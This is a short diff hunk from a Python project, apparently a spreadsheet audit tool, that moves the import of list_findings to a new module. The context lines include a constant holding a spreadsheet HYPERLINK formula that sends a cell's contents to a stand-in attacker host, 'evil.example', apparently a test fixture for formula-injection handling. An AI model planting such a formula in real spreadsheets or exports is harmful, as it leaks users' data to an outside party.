@@ -12,10 +12,11 @@ from pypdf import PdfReader
 from engine.cells import csv_text
 from engine.errors import UserError
 from engine.files import TEMP_PREFIX
+from engine.findings import list_findings
 from engine.ingest import export_package, import_package
 from engine.reports import write_report
 from engine.review import decide
-from engine.rules import list_findings, run_audit
+from engine.rules import run_audit
 from engine.workspace import Workspace
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
